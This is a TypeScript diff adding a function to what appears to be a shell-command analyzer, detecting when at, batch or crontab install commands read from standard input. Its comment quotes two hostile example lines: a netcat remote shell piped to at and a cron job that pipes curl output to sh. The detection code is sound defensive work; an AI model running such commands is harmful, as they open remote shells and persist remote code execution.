@@ -53,6 +53,35 @@ export function shellReadsStdin(args: readonly string[]): boolean {
   return true;
 }
 
+/** at/batch flags that list, remove, show or read a file instead of reading stdin. */
+const AT_NO_STDIN_FLAGS = new Set(['f', 'l', 'r', 'd', 'c', 'V']);
+/** crontab flags that list, edit or remove instead of installing stdin. */
+const CRONTAB_NO_STDIN_FLAGS = new Set(['l', 'e', 'r', 'i', 'T', 'V']);
+
+/**
+ * Whether a scheduler installs the commands it reads on standard input: `at`/`batch`
+ * run them through sh later (`echo 'nc ... -e sh' | at now`), and `crontab -` (or
+ * `crontab` with no file) installs crontab lines whose commands the parser reads after
+ * their schedule (`echo '* * * * * curl x|sh' | crontab -`).
+ */
+export function schedulerReadsStdin(
+  program: string,
+  flags: readonly string[],
+  args: readonly string[],
+): boolean {
+  if (program === 'at' || program === 'batch') return !flags.some((f) => AT_NO_STDIN_FLAGS.has(f));
+  if (program !== 'crontab') return false;
+  if (flags.some((f) => CRONTAB_NO_STDIN_FLAGS.has(f))) return false;
+  // `crontab -u alice -` or `crontab -`: the operand is `-` or missing.
+  const operands: string[] = [];
+  for (let k = 0; k < args.length; k++) {
+    const arg = args[k]!;
+    if (arg === '-u') k += 1;
+    else if (arg === '-' || !arg.startsWith('-')) operands.push(arg);
+  }
+  return operands.length === 0 || (operands.length === 1 && operands[0] === '-');
+}
+
 /**
  * The texts `shell` (already in `parsed`, its last entry) reads on its standard input
  * and that are known from the line; `[]` when unknown or when it reads none.
